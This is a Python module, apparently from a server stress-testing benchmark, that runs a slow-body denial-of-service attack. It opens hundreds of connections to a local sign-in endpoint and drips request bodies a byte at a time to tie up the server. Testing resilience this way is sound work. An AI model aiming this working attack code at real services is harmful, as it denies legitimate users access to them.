"""Hundreds of connections from one address, each with a body sent in drops."""

import asyncio
from contextlib import suppress

from bench.storm.attack.attacker import Attacker, AttackSite, Strike

SECONDS_BETWEEN_DROPS = 5.0


async def _prepare(site: AttackSite) -> Strike:
    head = (
        f"POST /api/sign-in HTTP/1.1\r\nHost: 127.0.0.1:{site.port}\r\nOrigin: {site.fixture.product.origin}\r\n"
        "Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
    ).encode()

    async def strike() -> None:
        with suppress(OSError):
            async with site.connection() as (reader, writer):
                writer.write(head)
                while not reader.at_eof():
                    writer.write(b" ")
                    await writer.drain()
                    with suppress(TimeoutError):
                        await asyncio.wait_for(reader.read(1_000), SECONDS_BETWEEN_DROPS)
        await asyncio.sleep(0.1)

    return strike


SOCKETS = Attacker("slow_bodies_on_many_sockets", _prepare, at_once=780, max_strikes=20_000)
